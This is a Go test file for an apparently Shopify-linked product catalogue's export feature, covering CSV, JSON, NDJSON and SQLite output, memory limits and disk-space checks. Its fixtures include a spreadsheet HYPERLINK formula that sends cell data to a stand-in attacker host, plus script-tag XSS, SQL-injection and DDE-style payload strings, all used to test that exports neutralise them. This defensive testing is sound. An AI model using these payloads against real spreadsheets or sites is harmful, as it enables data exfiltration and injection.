package web

import (
	"bufio"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	_ "modernc.org/sqlite"

	"stockroom/internal/catalog"
	"stockroom/internal/datadir"
	"stockroom/internal/status"
	"stockroom/store"
)

const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`

func TestEveryProductIsExportedWithItsVariants(t *testing.T) {
	r := newRig(t, nil)
	for id := int64(1); id <= exportPage+5; id++ {
		r.product(id, "Shirt", "")
	}
	n := 0
	in := bufio.NewScanner(strings.NewReader(r.admin(200, "GET", "/api/v1/products-export", "")))
	in.Buffer(nil, 1<<20)
	for in.Scan() {
		if p := decode[productSeen](t, in.Text()); len(p.Variants) != 2 {
			t.Fatalf("product %d has %d variants", p.ExternalID, len(p.Variants))
		}
		n++
	}
	if n != exportPage+5 {
		t.Errorf("ndjson holds %d products", n)
	}
	if list := decode[[]productSeen](t, r.admin(200, "GET", "/api/v1/products-export?format=json", "")); len(list) != exportPage+5 {
		t.Errorf("json holds %d products", len(list))
	}
	r.shops.list = append(r.shops.list, status.Connection{Shop: "other.myshopify.com"})
	if got := r.admin(200, "GET", "/api/v1/products-export?format=json&shop=other.myshopify.com", ""); got != "[]\n" {
		t.Errorf("another shop's: %q", got)
	}
	w := serve(r.Admin(), request("GET", "/api/v1/products-export", ""))
	if w.Header().Get("Stockroom-Seq") != "205" || !strings.Contains(w.Header().Get("Content-Disposition"), "products.ndjson") {
		t.Errorf("headers %v", w.Header())
	}
	r.admin(400, "GET", "/api/v1/products-export?format=xlsx", "")
	r.admin(400, "GET", "/api/v1/products-export?format=csv&raw=perhaps", "")
}

func TestTheCSVHasShopifysColumnsAndALineForEachVariant(t *testing.T) {
	r := newRig(t, nil)
	r.product(1, formula, `,"images":[{"id":5,"position":1,"src":"https://cdn.example/a.jpg","alt":"-front"},{"id":6,"position":2,"src":"https://cdn.example/b.jpg","alt":null,"variant_ids":[12]},
		{"position":3,"src":"https://cdn.example/c.jpg","alt":null,"variant_ids":[11]}]`)
	read := func(path string) []map[string]string {
		records, err := csv.NewReader(strings.NewReader(r.admin(200, "GET", path, ""))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		var lines []map[string]string
		for _, record := range records[1:] {
			line := map[string]string{}
			for i, name := range records[0] {
				line[name] = record[i]
			}
			lines = append(lines, line)
		}
		return lines
	}
	lines := read("/api/v1/products-export?format=csv")
	if len(lines) != 3 {
		t.Fatalf("%d lines, want 3: two variants, three images", len(lines))
	}
	for i, want := range []map[string]string{
		{"URL handle": "product-1", "Title": "'" + formula, "Vendor": "Acme", "Tags": "linen, summer", "Published on online store": "TRUE", "Option1 name": "Size",
			"Option1 value": "S", "SKU": "SKU-1-S", "Price": "19.90", "Inventory quantity": "-5", "Continue selling when out of stock": "DENY", "Charge tax": "TRUE",
			"Image position": "1", "Image alt text": "'-front", "Variant image URL": "https://cdn.example/c.jpg", "Status": "active"},
		{"URL handle": "product-1", "Title": "", "Published on online store": "", "Option1 name": "", "Option1 value": "M", "Price": "1299.000",
			"Product image URL": "https://cdn.example/b.jpg", "Variant image URL": "https://cdn.example/b.jpg"},
		{"URL handle": "product-1", "SKU": "", "Inventory quantity": "", "Product image URL": "https://cdn.example/c.jpg"},
	} {
		for name, value := range want {
			if got, there := lines[i][name]; !there || got != value {
				t.Errorf("line %d: %s is %q, want %q", i+1, name, got, value)
			}
		}
	}
	lines = read("/api/v1/products-export?format=csv&columns=old")
	for i, want := range []map[string]string{
		{"Handle": "product-1", "Title": "'" + formula, "Vendor": "Acme", "Tags": "linen, summer", "Published": "true", "Option1 Name": "Size", "Option1 Value": "S",
			"Variant SKU": "SKU-1-S", "Variant Price": "19.90", "Variant Inventory Qty": "-5", "Image Position": "1", "Image Alt Text": "'-front", "Variant Image": "https://cdn.example/c.jpg", "Status": "active"},
		{"Handle": "product-1", "Title": "", "Option1 Value": "M", "Variant Price": "1299.000", "Image Src": "https://cdn.example/b.jpg",
			"Variant Image": "https://cdn.example/b.jpg"},
		{"Handle": "product-1", "Variant SKU": "", "Image Src": "https://cdn.example/c.jpg"},
	} {
		for name, value := range want {
			if got, there := lines[i][name]; !there || got != value {
				t.Errorf("line %d: %s is %q, want %q", i+1, name, got, value)
			}
		}
	}
	r.admin(400, "GET", "/api/v1/products-export?format=csv&columns=mine", "")
	if got := read("/api/v1/products-export?format=csv&raw=true")[0]["Title"]; got != formula {
		t.Errorf("raw title %q", got)
	}
	r.shops.list = append(r.shops.list, status.Connection{Shop: "other.myshopify.com"})
	if got := r.admin(200, "GET", "/api/v1/products-export?format=csv&shop=other.myshopify.com", ""); !strings.HasPrefix(got, "Title,URL handle,Description,Vendor,") || strings.Count(got, "\n") != 1 {
		t.Errorf("an empty csv: %q", got)
	}
}

func TestCellsThatASpreadsheetWouldEvaluateAreGuarded(t *testing.T) {
	for cell, want := range map[string]string{
		"":           "",
		"Shirt":      "Shirt",
		"=1+1":       "'=1+1",
		"+1":         "'+1",
		"-1":         "-1",
		"-1.50":      "-1.50",
		"-1+cmd|x":   "'-1+cmd|x",
		"-":          "'-",
		"1.":         "1.",
		"-.5":        "'-.5",
		"@SUM(A1)":   "'@SUM(A1)",
		"\t=1":       "'\t=1",
		"\r=1":       "'\r=1",
		"\n=1":       "'\n=1",
		"  =1":       "'  =1",
		"\u00a0=1":   "'\u00a0=1",
		"＝1":         "'＝1",
		"－1":         "'－1",
		"a=b":        "a=b",
		"'=1":        "'=1",
		"0123":       "0123",
		"\ufeff=1":   "'\ufeff=1",
		"\u200b=1":   "'\u200b=1",
		"\x00\x1f=1": "'\x00\x1f=1",
		" \t@x":      "' \t@x",
		"\xff=1":     "'\xff=1",
		"＋1":         "'＋1",
		"＠x":         "'＠x",
		"\u2212x":    "'\u2212x",
		"\r\n":       "'\r\n",
		"   ":        "   ",
		"Größe @ S":  "Größe @ S",
	} {
		if got := guardedCell(cell); got != want {
			t.Errorf("%q becomes %q, want %q", cell, got, want)
		}
	}
}

// What reads the file with further separators must find our cells all the same.
func TestACellWithAnotherSeparatorIsQuoted(t *testing.T) {
	for cell, want := range map[string]string{
		"": "", "Shirt": "Shirt", "two words": "two words", "19.90": "19.90",
		"a;=1+1;b": `"a;=1+1;b"`, "a\t=1+1": "\"a\t=1+1\"", "a|=1": `"a|=1"`, "a,b": `"a,b"`, `a"b`: `"a""b"`, "a\r\nb": "\"a\r\nb\"", " a": `" a"`,
	} {
		var out strings.Builder
		if err := csvRecord(&out, []string{"x", cell, "y"}); err != nil || out.String() != "x,"+want+",y\n" {
			t.Errorf("%q: %q, want %q (%v)", cell, out.String(), want, err)
		}
		if back, err := csv.NewReader(strings.NewReader(out.String())).Read(); err != nil || back[1] != strings.ReplaceAll(cell, "\r\n", "\n") {
			t.Errorf("%q is read as %q (%v)", cell, back, err)
		}
	}
	r := newRig(t, nil)
	r.product(1, "a;=1+1;b", "")
	for _, raw := range []string{"", "&raw=true"} {
		if got := r.admin(200, "GET", "/api/v1/products-export?format=csv"+raw, ""); !strings.Contains(got, `"a;=1+1;b",product-1,`) {
			t.Errorf("the export%s holds the cell unquoted: %s", raw, got)
		}
	}
}

// TestHostileTextIsTextInEveryExport puts markup, scripts, formulas and odd
// characters into every field of a product.
func TestHostileTextIsTextInEveryExport(t *testing.T) {
	r := newRig(t, nil)
	for i, text := range []string{
		`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, formula, "@SUM(1)\t|cmd", "\r\n=1+1", "a\",\n=2+2,\"b", "\u202eevil", "\u2028x\u2029", "'; DROP TABLE products; --", "]]>&lt;",
	} {
		quoted, err := json.Marshal(text)
		if err != nil {
			t.Fatal(err)
		}
		r.deliver(catalog.ProductsUpdate, fmt.Sprintf(`{"id":%[1]d,"title":%[2]s,"body_html":%[2]s,"vendor":%[2]s,"product_type":%[2]s,"handle":%[2]s,"tags":%[2]s,"status":"active",
			"created_at":"2026-01-01T00:00:00Z","updated_at":"2026-11-01T10:00:00Z","published_at":null,"options":[{"id":1,"name":%[2]s,"position":1,"values":[%[2]s]}],
			"images":[{"id":5,"position":1,"src":"https://cdn.example/a.jpg","alt":%[2]s}],
			"variants":[{"id":%[1]d1,"title":%[2]s,"sku":%[2]s,"barcode":%[2]s,"price":"1.00","position":1,"option1":%[2]s,"inventory_item_id":%[1]d1,"inventory_quantity":1,"inventory_policy":"deny","taxable":true}]}`, i+1, quoted))
		list := decode[[]struct {
			Title    string `json:"title"`
			Body     string `json:"body_html"`
			Variants []struct {
				SKU string `json:"sku"`
			} `json:"variants"`
		}](t, r.admin(200, "GET", "/api/v1/products-export?format=json", ""))
		if got := list[len(list)-1]; got.Title != text || got.Body != text || got.Variants[0].SKU != text {
			t.Errorf("json: %q became %q", text, got.Title)
		}
		body := r.admin(200, "GET", "/api/v1/products-export", "")
		if strings.Count(body, "\n") != i+1 || strings.ContainsAny(body, "<>\u2028\u2029") {
			t.Errorf("ndjson has a line or markup of %q", text)
		}
		records, err := csv.NewReader(strings.NewReader(r.admin(200, "GET", "/api/v1/products-export?format=csv", ""))).ReadAll()
		if err != nil || len(records) != i+2 {
			t.Fatalf("csv of %q: %d lines, %v", text, len(records), err)
		}
		for n, cell := range records[i+1] {
			if cell != guardedCell(cell) {
				t.Errorf("csv, %s: %q would be evaluated", csvColumns[n].name, cell)
			}
		}
	}
	for _, path := range []string{"/api/v1/products", "/api/v1/explain/" + testShop + "/1", "/api/v1/status"} {
		if body := r.admin(200, "GET", path, ""); strings.ContainsAny(body, "<>") {
			t.Errorf("%s holds markup", path)
		}
	}
}

// TestAnExportTakesNoMoreMemoryForMoreProducts exports far more than it may hold.
func TestAnExportTakesNoMoreMemoryForMoreProducts(t *testing.T) {
	products, bodyBytes := 800, 40_000 // 32 MB
	if os.Getenv("STOCKROOM_TORTURE") != "" {
		products = 100_000
	}
	if raceDetector {
		products = 300
	}
	r := newRig(t, nil)
	fillProducts(t, r.file(), products, bodyBytes)
	for _, format := range []string{"ndjson", "json", "csv"} {
		w := &heapMeter{h: http.Header{}}
		runtime.GC()
		runtime.ReadMemStats(&w.first)
		r.Admin().ServeHTTP(w, request("GET", "/api/v1/products-export?format="+format, ""))
		if least := int64(products * bodyBytes); w.bytes < least {
			t.Errorf("%s: %d bytes, want more than %d", format, w.bytes, least)
		}
		t.Logf("%s: the heap grew by %d kB", format, w.most>>10)
		if w.most > 8<<20 {
			t.Errorf("%s: the heap grew by %d MB", format, w.most>>20)
		}
	}
}

// heapMeter takes an answer and watches the heap.
type heapMeter struct {
	h           http.Header
	bytes, next int64
	first       runtime.MemStats
	most        uint64
}

func (m *heapMeter) Header() http.Header { return m.h }
func (m *heapMeter) WriteHeader(int)     {}
func (m *heapMeter) Write(b []byte) (int, error) {
	m.bytes += int64(len(b))
	if m.bytes >= m.next {
		m.next += 8 << 20
		runtime.GC() // so that only what is held counts
		var now runtime.MemStats
		runtime.ReadMemStats(&now)
		if now.HeapAlloc > m.first.HeapAlloc {
			m.most = max(m.most, now.HeapAlloc-m.first.HeapAlloc)
		}
	}
	return len(b), nil
}

// fillProducts writes products of testShop with one variant each straight into
// the file.
func fillProducts(t testing.TB, path string, n, bodyBytes int) {
	t.Helper()
	db, err := sql.Open("sqlite", "file:"+path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	db.SetMaxOpenConns(1)
	for _, query := range []string{
		`WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?1)
		INSERT INTO products (id, shop, external_id, status, selected, shopify_updated_at, content_hash, synced_at, source,
		                      title, vendor, product_type, handle, tags, options, images, body_html)
		SELECT i, ?2, 7000000 + i, 'ACTIVE', 1, 1000, 'x', 1000, 'bulk', 'Washed linen shirt with long sleeves ' || i, 'Vendor ' || (i % 50),
		       'Shirts', 'washed-linen-shirt-' || i, '["linen"]', '[]', '[]', hex(zeroblob(?3)) FROM n`,
		`WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ?1)
		INSERT INTO variants (product_id, external_id, row_hash, position, title, sku, barcode, price, inventory_item_id)
		SELECT i, 9000000 + i, 1, 1, 'S', 'SKU-' || i, '40' || i, '10.00', 9500000 + i FROM n WHERE ?2 <> '' AND ?3 >= 0`,
	} {
		if _, err := db.Exec(query, n, testShop, bodyBytes/2); err != nil {
			t.Fatal(err)
		}
	}
}

func TestTheSQLiteExportIsAWholeDatabaseAndLeavesNothingBehind(t *testing.T) {
	r := newRig(t, nil)
	r.product(1, "Shirt", "")
	body := r.admin(200, "GET", "/api/v1/products-export?format=sqlite", "")
	path := filepath.Join(t.TempDir(), "copy.db")
	if err := os.WriteFile(path, []byte(body), 0o600); err != nil {
		t.Fatal(err)
	}
	db, err := sql.Open("sqlite", path)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	var sound string
	var products, secrets int
	if err := db.QueryRow(`SELECT (SELECT integrity_check FROM pragma_integrity_check), (SELECT count(*) FROM products), (SELECT count(*) FROM shops)`).Scan(&sound, &products, &secrets); err != nil || sound != "ok" || products != 1 {
		t.Errorf("%s, %d products, %v", sound, products, err)
	}
	if names, err := filepath.Glob(filepath.Join(r.opt.DataDir, ".export-*")); err != nil || len(names) != 0 {
		t.Errorf("left behind: %v %v", names, err)
	}
	r.admin(400, "GET", "/api/v1/products-export?format=sqlite&shop="+testShop, "")
	for range copiesAtOnce {
		r.copies <- struct{}{}
	}
	if w := serve(r.Admin(), request("GET", "/api/v1/products-export?format=sqlite", "")); w.Code != 503 || w.Header().Get("Retry-After") == "" || !strings.Contains(w.Body.String(), "4 sqlite exports") {
		t.Errorf("a fifth copy: %d %s", w.Code, w.Body)
	}
}

func TestAnExportThatNobodyReadsKeepsNoOtherWaitingAndNoFileInTheDataDir(t *testing.T) {
	r := newRig(t, nil)
	r.product(1, "Shirt", "")
	const target = "/api/v1/products-export?format=sqlite"
	stuck, ended := make(chan struct{}), make(chan struct{})
	for range 2 * copiesAtOnce {
		begun := make(chan struct{})
		w := &atFirst{h: http.Header{}, call: func() { close(begun); <-stuck }}
		go func() {
			r.Admin().ServeHTTP(w, request("GET", target, ""))
			ended <- struct{}{}
		}()
		select {
		case <-begun:
		case <-ended:
			t.Fatal("an export ended before its first byte")
		}
	}
	if names, err := filepath.Glob(filepath.Join(r.opt.DataDir, ".export-*")); runtime.GOOS != "windows" && (err != nil || len(names) != 0) {
		t.Errorf("while they are sent: %v %v", names, err)
	}
	r.admin(200, "GET", target, "")
	close(stuck)
	for range 2 * copiesAtOnce {
		<-ended
	}
}

func TestACopyThatWouldFillTheDiskIsRefusedBeforeItBegins(t *testing.T) {
	var free int64
	var broken error
	r := newRig(t, func(o *Options) { o.DiskFree = func() (int64, error) { return free, broken } })
	r.product(1, "Shirt", "")
	const target = "/api/v1/products-export?format=sqlite"
	size := r.store.Size()
	for _, tt := range []struct {
		name   string
		free   int64
		others int
		err    error
		want   int
	}{
		{"just enough", datadir.SpaceNeeded + size, 0, nil, 200},
		{"a byte too few", datadir.SpaceNeeded + size - 1, 0, nil, 507},
		{"enough for one, and another is copied", datadir.SpaceNeeded + 2*size - 1, 1, nil, 507},
		{"enough for both", datadir.SpaceNeeded + 2*size, 1, nil, 200},
		{"a disk that does not tell", 0, 0, os.ErrInvalid, 200},
	} {
		free, broken = tt.free, tt.err
		for range tt.others {
			r.copies <- struct{}{}
		}
		w := serve(r.Admin(), request("GET", target, ""))
		if w.Code != tt.want || tt.want == 507 && !strings.Contains(w.Body.String(), "16 MB have to stay free for deliveries") {
			t.Errorf("%s: %d %.300s", tt.name, w.Code, w.Body)
		}
		for range tt.others {
			<-r.copies
		}
	}
	if names, err := filepath.Glob(filepath.Join(r.opt.DataDir, ".export-*")); err != nil || len(names) != 0 {
		t.Errorf("left behind: %v %v", names, err)
	}
}

func TestAnExportPutsNothingIntoAFolderThatTookThePlaceOfTheDataDir(t *testing.T) {
	r := newRig(t, nil)
	r.product(1, "Shirt", "")
	dir := r.opt.DataDir
	if err := errors.Join(os.Rename(dir, dir+".old"), os.Mkdir(dir, 0o700)); err != nil {
		t.Skipf("can't move an open folder here: %v", err)
	}
	long := time.Unix(1_700_000_000, 0) // changes with the first file
	if err := os.Chtimes(dir, long, long); err != nil {
		t.Fatal(err)
	}
	w := serve(r.Admin(), request("GET", "/api/v1/products-export?format=sqlite", ""))
	if info, err := os.Stat(dir); w.Code < 500 || err != nil || !info.ModTime().Equal(long) {
		t.Errorf("%d %s: changed %s, %v", w.Code, w.Body, info.ModTime(), err)
	}
	if err := errors.Join(os.Remove(dir), os.Rename(dir+".old", dir)); err != nil {
		t.Fatal(err)
	}
	if names, err := filepath.Glob(filepath.Join(dir, ".export-*")); err != nil || len(names) != 0 {
		t.Errorf("left behind: %v %v", names, err)
	}
}

func TestAnExportOfAFailingCatalogueIsAnErrorNotAnEmptyFile(t *testing.T) {
	r := newRig(t, nil)
	if err := r.store.Close(); err != nil {
		t.Fatal(err)
	}
	for _, format := range []string{"ndjson", "json", "csv"} {
		w := serve(r.Admin(), request(http.MethodGet, "/api/v1/products-export?format="+format, ""))
		if w.Code != http.StatusServiceUnavailable || w.Header().Get("Content-Disposition") != "" {
			t.Errorf("%s: %d %v", format, w.Code, w.Header())
		}
	}
}

// What only a read of the shop shows is in the CSV and on the page of a product, and
// what has no stock is told apart from what is sold out.
func TestWhatAReadShowsIsInTheCSVAndOnThePage(t *testing.T) {
	r := newRig(t, nil)
	variant := func(id int64, tracked, shipped catalog.Field[bool]) catalog.Variant {
		return catalog.Variant{ID: id, InventoryQuantity: catalog.Of[int64](0), Tracked: tracked, RequiresShipping: shipped}
	}
	p := &catalog.Product{
		ID: 1, Title: catalog.Of("Hat"), UpdatedAt: catalog.Of[int64](1000), Coverage: catalog.Complete, VariantsComplete: true,
		TemplateSuffix: catalog.Of("wide"), Category: catalog.Of("Apparel > Hats"),
		SEOTitle: catalog.Of("Find me"), SEODescription: catalog.Of("A good hat"),
		Variants: catalog.Of([]catalog.Variant{
			variant(11, catalog.Of(true), catalog.Of(true)), variant(12, catalog.Of(false), catalog.Of(false)), variant(13, catalog.Field[bool]{}, catalog.Field[bool]{}),
		}),
	}
	if _, err := r.store.PutFetched(t.Context(), store.Read{Shop: testShop, Source: "fetch", Started: time.Now()}, p); err != nil {
		t.Fatal(err)
	}
	records, err := csv.NewReader(strings.NewReader(r.admin(200, "GET", "/api/v1/products-export?format=csv", ""))).ReadAll()
	if err != nil || len(records) != 4 {
		t.Fatalf("%v, %v", records, err)
	}
	for name, want := range map[string][3]string{
		"Product category": {"Apparel > Hats"}, "SEO title": {"Find me"}, "SEO description": {"A good hat"},
		"Inventory tracker": {"shopify"}, "Requires shipping": {"TRUE", "FALSE"},
	} {
		at := slices.Index(records[0], name)
		if at < 0 {
			t.Errorf("no column %s", name)
			continue
		}
		if got := [3]string{records[1][at], records[2][at], records[3][at]}; got != want {
			t.Errorf("%s: %q, want %q", name, got, want)
		}
	}
	page := r.admin(200, "GET", productPath(testShop, 1), "")
	for _, want := range []string{`In stock" class="num">0<`, `In stock" class="num">not tracked<`, "<dt>Shipping</dt><dd dir=\"auto\">required for 1 of 2 variants<",
		"<dt>Theme template</dt><dd dir=\"auto\">wide<", "Apparel &gt; Hats", "Find me", "A good hat"} {
		if !strings.Contains(page, want) {
			t.Errorf("the page lacks %s", want)
		}
	}
}
